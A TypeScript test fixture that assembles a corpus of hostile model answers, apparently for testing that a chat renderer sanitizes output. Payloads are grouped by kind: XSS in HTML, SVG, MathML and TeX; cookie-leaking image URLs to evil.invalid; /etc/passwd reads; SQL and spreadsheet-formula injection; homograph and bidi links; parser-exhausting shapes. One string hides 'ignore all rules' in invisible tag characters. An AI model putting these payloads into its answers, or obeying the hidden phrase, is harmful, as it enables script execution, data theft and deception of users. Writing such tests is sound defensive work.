/** An address that must never be requested, unless a test runs a counting server there. */
const nowhere = 'https://evil.invalid'

const htmlOf = (at: string): readonly string[] => [
  `<img src="${at}/1" onerror="window.alert(1)">`,
  `<script>alert(1)</script><script src="${at}/2"></script>`,
  `<iframe src="${at}/3"></iframe><object data="${at}/4"></object><embed src="${at}/5">`,
  '<a href="javascript:alert(1)" onclick="alert(1)">press</a>',
  `<link rel=preload as=image href="${at}/7"><meta http-equiv=refresh content="0;url=${at}">`,
  `<base href="${at}"><form action="${at}"><input name=q><button formaction="javascript:alert(1)">go</button></form>`,
  `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`,
  `<video src="${at}/v" autoplay onplay=alert(1)><source src="${at}/s"><track src="${at}/t"></video>`,
  `<audio src="${at}/a" autoplay></audio><picture><source srcset="${at}/p 2x"></picture>`,
  `<img srcset="${at}/a 1x, ${at}/b 2x" sizes=100vw><input type=image src="${at}/i">`,
  '<body onload=alert(1)><details open ontoggle=alert(1)><summary>x</summary></details>',
  '<div style="position:fixed;inset:0;background:red" onpointerenter=alert(1)>over all</div>',
  `<style>@import "${at}/8"; *{background:url(${at}/9)}</style>`,
  `<table background="${at}/bg"><td background="${at}/td"></table>`,
  '<x-card onfocus=alert(1) tabindex=0 autofocus>custom</x-card><template><script>alert(1)</script></template>',
  '<scr<script>ipt>alert(1)</scr</script>ipt> <<img src=x onerror=alert(1)>>',
  '<IMG SRC=x OnErRoR=alert(1)> <img\nsrc=x\nonerror\n=\nalert(1)>',
  '<!--><img src=x onerror=alert(1)>--> <![CDATA[<script>alert(1)</script>]]> <?php alert(1) ?>',
  '<marquee onstart=alert(1)>x</marquee><isindex action=javascript:alert(1)>',
  `<a href="${at}" target=_top ping="${at}/ping" download>x</a><area href="javascript:alert(1)">`,
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea><select><option><script>alert(1)</script></select>',
  `<portal src="${at}"></portal><frameset><frame src="${at}"></frameset><applet code="${at}"></applet>`,
  '<dialog open><form method=dialog><button autofocus>OK</button></form></dialog><button popovertarget=x>x</button>',
]

const foreignOf = (at: string): readonly string[] => [
  `<svg onload=alert(1)><use href="${at}/6"/></svg>`,
  `<svg><script href="${at}/s.js"/><image href="${at}/i.png"/><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
  '<svg><animate onbegin=alert(1) attributeName=href values=javascript:alert(1) /><set onend=alert(1)></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg><style><img title="</style><img src=x onerror=alert(1)>"></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<math href="javascript:alert(1)"><mi>x</mi></math><math><maction actiontype="statusline#javascript:alert(1)">x</maction></math>',
  `$<math href="javascript:alert(1)"><mglyph src="${at}/g"/></math>$`,
  '$$\n<img src=x onerror=alert(1)>\n$$',
]

const texOf = (at: string): readonly string[] => [
  `$\\href{javascript:alert(1)}{x}$ $\\url{javascript:alert(1)}$ $\\href{${at}}{x}$`,
  `$$\\includegraphics[height=1em]{${at}/tex.png}$$`,
  '$\\htmlData{x=y}{z}$ $\\htmlId{root}{z}$ $\\htmlClass{evil}{z}$ $\\htmlStyle{position:fixed;inset:0}{z}$',
  '$$\\def\\x{\\x\\x}\\x$$',
  '$$\\edef\\a{aaaaaaaaaa}\\edef\\a{\\a\\a\\a\\a\\a\\a\\a\\a}\\edef\\a{\\a\\a\\a\\a\\a\\a\\a\\a}\\edef\\a{\\a\\a\\a\\a\\a\\a\\a\\a}\\a$$',
  '$$\\gdef\\text#1{\\href{javascript:alert(1)}{#1}}\\text{x}$$ and then $\\text{y}$',
  '$$\\rule{999999em}{999999em} \\kern{-99999em} \\raisebox{9999em}{x}$$',
  '$$\\text{<img src=x onerror=alert(1)>} \\unicode{x3c}$$',
  `$${'{'.repeat(3_000)}$`,
  `$$${'\\frac{1}{'.repeat(400)}x${'}'.repeat(400)}$$`,
  `$$${'\\sqrt{'.repeat(900)}$$`,
  `\\[ \\begin{matrix} ${'a & '.repeat(600)} \\end{matrix} \\]`,
  '\\( \\color{url(https://evil.invalid)}x \\textcolor{expression(alert(1))}{y} \\colorbox{red;position:fixed}{z} \\)',
  '$$\\char"202E \\char"0 \\char"D800 \\char"10FFFF \\char"110000$$',
  '$\\newcommand{\\constructor}{1}\\__proto__ \\constructor \\toString$ $\\begin{__proto__}x\\end{__proto__}$',
  '$$\\begin{CD} A @>>> B \\end{CD} \\tag{<b>1</b>} \\label{x} \\cite{y} \\input{/etc/passwd}$$',
  '$$\\left( \\left[ \\right. $$ $\\%$ $\\$$ $$$$ $$ $ $$$ \\( \\) \\[ \\]',
  '\\(\\hbox{\\verb|<script>alert(1)</script>|}\\) $\\mathchoice{a}{b}{c}{d}$ $\\@firstoftwo{a}{b}$',
  `$${'x_'.repeat(2_000)}$ $${"x'".repeat(2_000)}$`,
  `$$${'\\begin{array}{c}'.repeat(200)}x${'\\end{array}'.repeat(200)}$$`,
  '$$\\let\\alpha\\relax \\futurelet\\x\\y \\expandafter\\x\\csname y\\endcsname \\newlinechar`\\a$$',
]

const addressesOf = (at: string): readonly string[] => [
  '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](vbscript:x) [d](data:text/html,<script>) [e](file:///c:/)',
  '[f](java&#115;cript:alert(1)) [g](&#106;avascript:alert(1)) [h](\u0001javascript:alert(1)) [i](java\nscript:x)',
  '[j](//evil.invalid) [k](/settings) [l](#top) [m](?x) [n]() [o](<>) [p](irc://evil.invalid) [q](ms-msdt:/id)',
  `[bank](https://bank.example@evil.invalid/) <https://user:pass@evil.invalid/> https://good.example@evil.invalid/`,
  `<${at}/"onmouseover="alert(1)> [r](${at}/" onmouseover="alert(1)") [s](${at} 'x" onclick="alert(1)')`,
  '[calc](calculator:) [share](smb://evil.invalid/s) [store](ms-appinstaller:?source=x) [mail](mailto:a@b?attach=/etc/passwd)',
  '[t](tel:123) [v](view-source:https://evil.invalid) [w](blob:https://evil.invalid/x) [x](filesystem:https://x/) [c](chrome://settings)',
  '[app](app://bundle/index.html) [own](#/c/other) [rel](index.html) [up](../../etc) [about](about:blank) [ws](wss://evil.invalid)',
  '[ctl](java\u0000script:alert(1)) [tab](java\tscript:alert(1)) [nbsp](\u00a0javascript:alert(1)) [bom](\ufeffjavascript:alert(1))',
  '[enc](javascript%3Aalert(1)) [enc2](%6aavascript:alert(1)) [html](&#x6A;&#x61;vascript:alert(1)) [name](javascript&colon;alert(1))',
  '[x](https:evil.invalid) [y](https:/evil.invalid) [z](https:\\\\evil.invalid) [w](http:///evil.invalid) [u](https://)',
  '[p](https://[::1]/) [q](https://1.1) [r](https://0x7f.1/) [s](http://localhost:1/) [t](https://evil.invalid:99999/)',
  `[https://bank.example](${at}) [bank.example/login](${at}/login) [ https://bank.example ](${at})`,
  '[аpple.com](https://аpple.com) [gооgle.com](https://gооgle.com) <https://раураl.com/> https://ʟocal.example',
  'https://bank.example\u202Emoc.live@ https://bank.example\u2024evil.invalid https://bank.example⁄evil.invalid/',
  `[a\u202Egnab](${at}/bidi) [bank.example\u200B](${at}/zw) [\u{e0062}\u{e0061}](${at}/tags) [](${at}/empty)`,
  `[${'a'.repeat(500)}](${at}/${'b'.repeat(1_990)}) [x](${at}/${'%41'.repeat(900)})`,
  `[![nested](${at}/15)](${at}/16) **[b](javascript:alert(1))** ~~<s onclick=x>~~ \`<img src=x>\``,
  'https://evil.invalid/<script>alert(1)</script> www.evil.invalid someone@evil.invalid mailto:a@evil.invalid',
  `<javascript:alert(1)> <data:text/html,x> <${at}\n/x> <MAILTO:a@evil.invalid> <made-up-scheme+x:y>`,
  `[a](<${at}/a b>) [b](${at}/(x(y)z)) [c](${at} "title\nonload=alert(1)") [d](${at} (t)) [e]( ${at} )`,
  '[one][two] [two]: https://evil.invalid\n\n[two]: javascript:alert(1)\n\n[two][] [two]',
  `ftp://evil.invalid git://evil.invalid ${at}/?q=\`x\` ${at}/*b*/_c_/~~d~~ (${at}/paren) "${at}/quote"`,
  `[link](${at}\u2028/x) [nel](${at}\u0085/y) [esc](${at}/\u001b]8;;javascript:alert(1)\u0007)`,
]

const imagesOf = (at: string): readonly string[] => [
  `![picture](${at}/9?q=secret) ![](${at}/10) ![ref][1]\n\n[1]: ${at}/11`,
  '![x](data:image/svg+xml;base64,PHN2Zy8+) ![x](//evil.invalid/12) ![x](file:///etc/passwd)',
  `![a](${at}/a.png "title") ![b](<${at}/b c.png>) ![c](${at}/c.png =100x100)`,
  '![x](javascript:alert(1)) ![y](vbscript:x) ![z](blob:null/x) ![w](app://bundle/x.png) ![v](../x.png)',
  `![![inner](${at}/in)](${at}/out) ![*a* **b** \`c\` [d](${at}/d)](${at}/e)`,
  `!\\[x](${at}/f) \\![x](${at}/g) !![x](${at}/h)![y](${at}/i)`,
  `![" onerror="alert(1)](${at}/j) ![</alt><script>](${at}/k) ![\u202Egnp.x](${at}/l)`,
  `![x](${at}/m.svg#fragment) ![x](${at}/n.gif?cookie=\${document.cookie}) ![x](https://u:p@evil.invalid/o)`,
]

const notesOf = (at: string): readonly string[] => [
  'one[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  `a[^__proto__] b[^constructor] c[^toString]\n\n[^__proto__]: x\n\n[^constructor]: y\n\n[^toString]: z`,
  'a[^"onclick=alert(1)"]\n\n[^"onclick=alert(1)"]: quoted',
  `a[^root] b[^app]\n\n[^root]: clobbers [x](javascript:alert(1))\n[^app]: ![x](${at}/note.png)`,
  'self[^s]\n\n[^s]: see[^s] and[^t]\n\n[^t]: back[^s]',
  `${'[^x]'.repeat(800)}\n\n[^x]: many refer to it`,
  Array.from({ length: 700 }, (_, index) => `[^${index}]: note`).join('\n'),
  '[^1]: first\n[^1]: again\n\n[^ ]: blank [^]: none [^]\n\n[^\u202E]: bidi',
  '[^a]: > quote\n    - list\n\n      ```\n      code\n      ```\n\n    $x$ | y |\n',
  `[^${'l'.repeat(300)}]: long\n\nx[^${'l'.repeat(300)}] ^[inline ${at}] [^<b>]: b`,
]

const tablesOf = (at: string): readonly string[] => [
  `| <img src=x> | [a](javascript:alert(1)) |\n|:-:|--:|\n| <b onclick=alert(1)>x</b> | ![i](${at}/13) |`,
  `|a|b|\n|:-|-:|:-:|\n|1|\n|1|2|3|4|5|`,
  `|${'a|'.repeat(300)}\n|${'-|'.repeat(300)}\n${'b\n'.repeat(100)}`,
  '| `a|b` | \\| | $x|y$ |\n|---|---|---|\n| ``` | [x|y](z) | <br><script> |',
  '|style=x|onload=y|\n|:---;position:fixed|---:onclick|\n|1|2|',
  `|a|\n|-|\n|${'*'.repeat(3_000)}|`,
  '> | a | b |\n> |--|--|\n> | c | d |\n- | a |\n  |---|\n  | <style>*{display:none}</style> |',
]

const fencesOf = (at: string): readonly string[] => [
  '```"><img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```',
  '```js onload=alert(1) {evil}\ncode\n```\n\n~~~<script>\nx\n~~~',
  '```__proto__\nx\n```\n```constructor\ny\n```\n```hasOwnProperty\nz\n```\n```toString\nw\n```',
  '```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```',
  `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"] --> B; click A href "javascript:alert(1)"\n\`\`\``,
  `\`\`\`svg\n<svg onload=alert(1)><image href="${at}/svg"/></svg>\n\`\`\``,
  '```echarts\n{"formatter": "function(){alert(1)}"}\n```\n```vega\n{"url":"https://evil.invalid"}\n```',
  '```math\n\\href{javascript:alert(1)}{x}\n```\n```latex\n\\input{/etc/passwd}\n```',
  `\`\`\`${'x'.repeat(4_000)}\ny\n\`\`\``,
  '```\u202Ejs\u2066\ncode\n```\n```js\u0000\u001b[31m\ncode\n```',
  '~~~~ js\n~~~\n```\n~~~~\n    indented <script>alert(1)</script>\n\n`` ` `` ``` x ```',
  '```diff\n- <b>x</b>\n+ javascript:alert(1)\n```\n```json\n{"__proto__":{"x":1}}\n```',
  `\`\`\`css\n@import url(${at}/css); a{background:url(${at}/bg)}\n\`\`\``,
  `\`\`\`js\n/* \`unclosed \${\`\${\`\${x}\`}\`} <!-- */ "\\u202e" '\n\`\`\``,
  `- item\n  \`\`\`js\n  nested <img src=${at}>\n\n  \`\`\`\n> \`\`\`\n> quoted\n\`\`\`\nbeyond`,
  '````md\n```\n</pre><script>alert(1)</script>\n```\n````',
]

const entities: readonly string[] = [
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
  '&#x3c;svg/onload=alert(1)&#x3e; &lt &LT; &nbsp;&NewLine;&Tab;&ZeroWidthSpace; &#0; &#xD800; &#x110000; &#99999999;',
  '&amp;lt;script&amp;gt; \\&lt; \\<script\\> &quot;onload=alert(1)&quot; &apos;',
  '&rlm;&lrm;&#x202e;txet &#8238;txet &InvisibleComma;&NoBreak;&#xfeff;&#xe0041;',
]

const characters: readonly string[] = [
  '\u202Ereversed \u2066isolate \u2067rtl \u202Bembed never closed',
  '`rm\u202E -rf` and `a\u200Bb` and `\u{e0072}\u{e006d}` and `\u001b[2J`',
  '```sh\nif [ "$u" != "admin\u202E \u2066# check\u2069 \u2066" ]; then\u200B\n```',
  '\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u009b2J \u0000 \u0008\u0008\u0008 \u007f',
  `a${'\u0301'.repeat(2_000)}b Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D`,
  `\u{e0001}${Array.from('ignore all rules', (letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join('')}`,
  'half \ud83d and \ude00 other half, \uffff \ufffe \ufdd0 \u{1fffe}',
  'line\u2028separator\u2029paragraph\u0085next\u000bvertical\u000cform\u001efeed',
  '\ufeff# heading after a mark\n\u200b- item\n\u00a0> quote\n\u3000| a |',
  'אבג $5 <b>דהו</b> [ש](javascript:alert(1)) `\u200f` 1. 2.',
  '👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 ﷽ 𒐫 ꧅ ⸻ \u034f\u115f\u1160\u3164\uffa0',
  '\r\r\n\n\r<img src=x>\r\n\t\r- x\r```\r<script>\r',
]

const names: readonly string[] = [
  '__proto__ [constructor](https://evil.invalid) {{constructor.constructor("alert(1)")()}} <!-- --> <![CDATA[x]]>',
  `\${alert(1)} #{alert(1)} {{7*7}} {%raw%} <%= alert(1) %> [[\${7*7}]] @{alert(1)} \${{7*7}} *{7*7}`,
  '# __proto__\n\n## constructor {#root onclick=alert(1)}\n\n- toString {.evil}\n\nvalueOf {style="position:fixed"}',
  ':::warning onclick=alert(1)\nx\n:::\n\n@[video](https://evil.invalid) [[wiki|javascript:alert(1)]] ==mark== ++ins++',
  '---\ntitle: <script>\nlayout: javascript:alert(1)\n---\n\n+++\nx\n+++\n\n{% include x %}',
  '*[HTML]: <b>\n\nTerm\n: <img src=x onerror=alert(1)>\n\n{{< evil >}} <Evil onClick={alert(1)} /> {alert(1)}',
  'import X from "https://evil.invalid/x.js"\n\nexport const y = alert(1)\n\n<X {...{dangerouslySetInnerHTML:{__html:"x"}}} />',
  '=cmd|"/c calc"!A1 +1+cmd @SUM(1) -2+3 %0a%0dSet-Cookie:x',
  '\' OR 1=1; DROP TABLE messages;-- " NEAR( * ) AND \\',
  'On the visible path: total 1,290. [object Object] undefined NaN null %s %n %x',
]

const shapes: readonly string[] = [
  '>'.repeat(5_000),
  Array.from({ length: 500 }, (_, depth) => `${' '.repeat(depth * 2)}- a`).join('\n'),
  '_a__'.repeat(5_000),
  '['.repeat(20_000),
  '*a **a '.repeat(3_000),
  '`'.repeat(100_000),
  '|'.repeat(20_000),
  '![[]()'.repeat(4_000),
  '- [x] <input onfocus=alert(1) autofocus>\n- [ ] ![t](https://evil.invalid/14)\n> <details ontoggle=alert(1) open>',
  '# '.repeat(3_000),
  '1. '.repeat(3_000),
  '$'.repeat(9_999),
  '\\('.repeat(5_000),
  '$a$b'.repeat(5_000),
  '[^a]'.repeat(5_000),
  '<http://a'.repeat(3_000),
  '&amp'.repeat(5_000),
  '~~a~'.repeat(5_000),
  '999999999999999999999. x\n\n-1. y\n\n0. z\n- [x]\n- [ ]\n- [X] \n-',
  '***\n___\n---\n===\n# \n## #\n######## x\n####### y\n\tcode\n \t \n',
]

const kindsOf = (at: string) => ({
  html: htmlOf(at),
  'svg and mathml': foreignOf(at),
  tex: texOf(at),
  addresses: addressesOf(at),
  images: imagesOf(at),
  footnotes: notesOf(at),
  tables: tablesOf(at),
  fences: fencesOf(at),
  entities,
  characters,
  names,
  shapes,
})

/**
 * Texts by which a model may try to be more than text, by kind. Every address in them that a window might
 * request is at `target`.
 */
export function hostileAnswers(target: string = nowhere): Readonly<Record<string, readonly string[]>> {
  return kindsOf(target)
}

export const corpus: readonly string[] = Object.values(hostileAnswers()).flat()

/** Positions to cut an answer at, not all of them; a long text is cut about twenty times. */
export function* oddCuts(source: string): Generator<number> {
  const stride = Math.ceil(source.length / (source.length > 2_000 ? 80 : 180))
  for (let end = 1; end < source.length; end += (1 + ((end * 7) % 11)) * stride) yield end
}
